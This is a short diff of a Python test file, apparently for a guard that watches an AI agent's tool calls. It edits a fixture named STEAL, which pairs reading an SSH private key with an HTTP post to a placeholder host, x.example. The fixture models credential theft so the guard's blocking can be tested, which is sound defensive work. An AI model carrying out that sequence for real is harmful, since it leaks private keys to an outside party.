@@ -175,7 +175,7 @@ def test_loops_are_told() -> None:
     assert call(guard, "search", {"q": "y"}).session_delta.new_action == "search"  # type: ignore[union-attr]
 
 
-STEAL = [("read_file", {"path": "/home/ada/.ssh/id_rsa"}), ("http_post", {"url": "https://x.example", "body": "…"})]
+STEAL = [("read_file", {"path": "/srv/ada/.ssh/id_rsa"}), ("http_post", {"url": "https://x.example", "body": "…"})]
 
 
 def test_sequences_stop_only_where_sessions_were_asked_for() -> None:
